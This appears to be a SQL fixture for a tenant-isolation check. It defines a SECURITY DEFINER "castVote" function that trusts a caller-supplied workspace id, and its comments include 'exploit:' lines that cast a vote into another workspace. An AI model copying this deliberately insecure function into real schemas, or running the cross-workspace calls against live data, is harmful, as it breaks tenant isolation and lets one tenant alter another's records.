-- The vote function writes as superuser in whatever workspace the caller names.
-- about: castVote, Vote
-- as: hf_roadmaps_portal
-- exploit: SET app.workspace_id = '11111111-1111-1111-1111-111111111111';
-- exploit: SELECT 'now ' || "castVote"('22222222-2222-2222-2222-222222222222',
-- exploit: '22222222-0000-0000-0000-000000000003', 'Road-secret voter');
-- shows: now 10
-- The portal must not have UPDATE on votes, so the second vote goes by a function.
CREATE FUNCTION "castVote"(workspace uuid, idea uuid, who text) RETURNS integer
LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS $$
  INSERT INTO "Vote" AS v ("workspaceId", "ideaId", "voter") VALUES (workspace, idea, who)
  ON CONFLICT ("workspaceId", "ideaId", "voter") DO UPDATE SET "weight" = v."weight" + 1
  RETURNING "weight"
$$;
GRANT EXECUTE ON FUNCTION "castVote"(uuid, uuid, text) TO hf_roadmaps_portal;
